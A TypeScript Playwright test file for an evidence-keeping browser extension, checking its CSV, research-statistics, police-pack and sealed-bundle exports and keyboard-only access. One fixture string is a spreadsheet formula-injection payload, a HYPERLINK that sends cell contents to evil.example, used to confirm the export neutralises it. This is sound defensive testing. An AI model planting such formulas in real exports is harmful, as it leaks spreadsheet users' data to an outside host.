/** The page for handing over: what each way makes of the same records, in every language, and with the keyboard alone. */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { basename } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Locator, Page } from '@playwright/test';
import type { CustodyEntry, EvidenceRecord } from '../../utils/evidence/types';
import { unguarded } from '../../utils/export/csv';
import type { Extension } from '../support/chromium';
import { handedOver } from '../support/hand-over';
import { documentPost, postWith, sites } from '../support/journey';
import { toTrash } from '../support/trash';
import { expect, test } from './fixtures';

const TAMIL = 'நீ எங்கே வேலை செய்கிறாய்';
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"வா")\n,=1+1; "@x"\t+2 \u200e-3 😀 سلام';

/** Text files of the person's own, each a record. */
async function addTexts(ext: Extension, ...texts: string[]): Promise<void> {
  const page = await ext.openOwn('add-file.html');
  await page.getByLabel('Choose files').setInputFiles(texts.map((text, index) => ({ name: `chat-${index}.txt`, mimeType: 'text/plain', buffer: Buffer.from(text) })));
  await page.getByLabel('Where it happened').selectOption('WhatsApp');
  await page.getByRole('button', { name: 'Save on this device' }).click();
  await expect(page.getByRole('heading', { name: 'Saved on this device' })).toBeVisible();
  await page.close();
}

const six = (ext: Extension) => addTexts(ext, ...['one', 'two', 'three', 'four', 'five', 'six'].map((number) => `Ravi: message ${number}`));

const numbers = (page: Page) => page.getByRole('radio', { name: 'Numbers only, for research' });
const agree = (page: Page) => page.getByRole('checkbox', { name: 'I have looked at these numbers.' });
const make = (page: Page) => page.getByRole('button', { name: 'Make the file' });

async function lastExport(ext: Extension): Promise<CustodyEntry> {
  return (await ext.rows<CustodyEntry>('custody')).findLast(({ action }) => action === 'exported')!;
}

test('a table holds every record as it is, in a form that another parser reads', async ({ ext }) => {
  const page = await ext.openPage(sites.x.address);
  await documentPost(ext, page, postWith(page, sites.x.unit, TAMIL).button);
  await addTexts(ext, HOSTILE);
  const path = await handedOver(ext, 'A table for a spreadsheet');
  expect(basename(path)).toMatch(/^table-\d{4}-\d\d-\d\d\.zip$/);
  const inside = (name: string) => execFileSync('unzip', ['-p', path, name]);
  expect(inside('README.txt').toString()).toContain('The table alone proves nothing');
  expect((JSON.parse(inside('evidence.csv-metadata.json').toString()) as { url: string }).url).toBe('evidence.csv');
  const bytes = inside('evidence.csv');
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [post, file, ...others]: Record<string, string>[] = parse(bytes, { bom: true, columns: true });
  expect(others).toEqual([]);
  const [{ capture, manifestHash }] = (await ext.records()).toReversed() as [EvidenceRecord];
  expect(unguarded(post!.text!)).toBe(capture.post.text);
  expect(post!.text).toContain(TAMIL);
  expect(unguarded(post!.post_id!)).toBe(capture.post.id);
  expect(post).toMatchObject({
    record_id: capture.id, manifest_sha256: manifestHash, platform: 'x', host: 'x.com', author_handle: capture.post.author.handle, permalink: capture.post.permalink,
  });
  expect(Date.parse(post!.captured_local!)).toBe(Math.floor(Date.parse(capture.capturedAt.utc) / 1000) * 1000);
  expect(file!.text).toMatch(/^'=HYPERLINK\(/);
  expect(unguarded(file!.text!)).toBe((await ext.records())[0]!.capture.post.text);
  expect(await lastExport(ext)).toMatchObject({ detail: basename(path), subjectHash: createHash('sha256').update(readFileSync(path)).digest('hex') });
});

test('numbers are shown to the last letter before they are written, and hold nothing else', async ({ ext }) => {
  await six(ext);
  await ext.changeSettings({ country: 'SG' });
  let shown = '';
  const path = await handedOver(ext, 'Numbers only, for research', async (page) => {
    await expect(page.getByRole('table', { name: 'WhatsApp, harm not named: 6 records' })).toBeVisible();
    await expect(page.getByRole('row', { name: /^Reporting not reported 6$/ })).toBeVisible();
    await expect(make(page)).toBeDisabled();
    await agree(page).check();
    await expect(make(page)).toBeEnabled();
    // Another country is another file, to which nobody agreed.
    await page.getByRole('checkbox', { name: 'Tell the country too: Singapore' }).check();
    await expect(agree(page)).not.toBeChecked();
    await expect(make(page)).toBeDisabled();
    await agree(page).check();
    await page.getByText('The file, letter by letter').click();
    shown = (await page.locator('.numbers-file').textContent())!;
  });
  const file = readFileSync(path);
  expect(file.toString('utf8')).toBe(shown);
  expect(file.toString('utf8')).toMatch(/^\uFEFFcountry,platform,category,measure,value,records\r\nSG,whatsapp,not-named,all,,6\r\nSG,whatsapp,not-named,month,\d{4}-\d\d,6\r\nSG,whatsapp,not-named,status,not-reported,6\r\n$/);
  expect(basename(path)).toMatch(/^numbers-\d{4}-\d\d\.csv$/);
  expect(await lastExport(ext)).toMatchObject({ detail: basename(path), subjectHash: createHash('sha256').update(file).digest('hex') });
});

test('numbers of a few records are not made, and the page says why', async ({ ext }) => {
  await addTexts(ext, 'one', 'two', 'three', 'four');
  const page = await ext.openOwn('hand-over.html');
  await numbers(page).check();
  await expect(page.getByText('There are too few records')).toBeVisible();
  await expect(make(page)).toBeDisabled();
});

test('numbers are not written once the records are others than those shown', async ({ ext }) => {
  await six(ext);
  const page = await ext.openOwn('hand-over.html');
  await numbers(page).check();
  await agree(page).check();
  // Another tab deletes one: what was agreed to is no longer what is there.
  const popup = await ext.openOwn('popup.html');
  await popup.getByRole('list', { name: 'Saved evidence' }).getByRole('listitem').first().getByRole('button', { name: /open the record/ }).click();
  await toTrash(popup);
  await expect(page.getByRole('table', { name: /: 5 records$/ })).toBeVisible();
  await expect(agree(page)).not.toBeChecked();
  await expect(make(page)).toBeDisabled();
});

/** Presses Tab until it is there: nobody presses as often as that for what should be near. */
async function tabTo(wanted: Locator): Promise<void> {
  const page = wanted.page();
  for (let press = 0; press < 30; press += 1) {
    if (await wanted.evaluate((element) => element === document.activeElement)) return;
    await page.keyboard.press('Tab');
  }
  throw new Error(`Not reached: ${await page.evaluate(() => document.activeElement?.outerHTML)}`);
}

test('the keyboard alone finds a way, agrees, makes the file, and leaves', async ({ ext }) => {
  await six(ext);
  const page = await ext.openOwn('hand-over.html');
  await page.getByRole('radio').first().waitFor();
  await tabTo(page.getByRole('radio', { checked: true }).first());
  for (let press = 0; press < 20 && !await numbers(page).isChecked(); press += 1) await page.keyboard.press('ArrowDown');
  await expect(numbers(page)).toBeFocused();
  await tabTo(agree(page));
  await page.keyboard.press('Space');
  await tabTo(make(page));
  const saving = page.waitForEvent('download');
  await page.keyboard.press('Enter');
  await (await saving).path();
  await expect(page.getByRole('status').getByText(/numbers-\d{4}-\d\d\.csv/)).toBeVisible();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Escape');
  await expect.poll(() => page.isClosed() || !page.url().includes('hand-over')).toBe(true);
});

test('the keyboard alone makes a pack for the police and a file sealed for a helper', async ({ ext }) => {
  await addTexts(ext, 'Ravi: I know where you work');
  const page = await ext.openOwn('hand-over.html');
  const way = async (name: string) => {
    const radio = page.getByRole('radio', { name });
    for (let press = 0; press < 20 && !await radio.isChecked(); press += 1) await page.keyboard.press('ArrowDown');
    await expect(radio).toBeFocused();
  };
  const made = async () => {
    await tabTo(make(page));
    const saving = page.waitForEvent('download');
    await page.keyboard.press('Enter');
    return (await saving).suggestedFilename();
  };
  await page.getByRole('radio').first().waitFor();
  await tabTo(page.getByRole('radio', { checked: true }).first());
  await way('A pack for one recipient');
  const recipient = page.getByRole('combobox', { name: 'Who is it for?' });
  await tabTo(recipient);
  await page.keyboard.type('Police');
  await expect(recipient).toHaveValue('police');
  await tabTo(page.getByRole('textbox', { name: 'Danger now or later' }));
  await page.keyboard.type('He waits at the station.');
  expect(await made()).toMatch(/^pack-.*\.zip$/);

  await page.reload();
  await page.getByRole('radio').first().waitFor();
  await tabTo(page.getByRole('radio', { checked: true }).first());
  await way('Sealed, for a helper');
  await tabTo(page.getByRole('radio', { name: 'Words made for you' }));
  await page.keyboard.press('ArrowDown');
  await tabTo(page.getByRole('textbox', { name: 'Passphrase' }));
  await page.keyboard.type('herons walk seven streets');
  await tabTo(page.getByRole('checkbox', { name: 'I have written it down' }));
  await page.keyboard.press('Space');
  expect(await made()).toMatch(/^bundle-.*\.zip\.age$/);
});
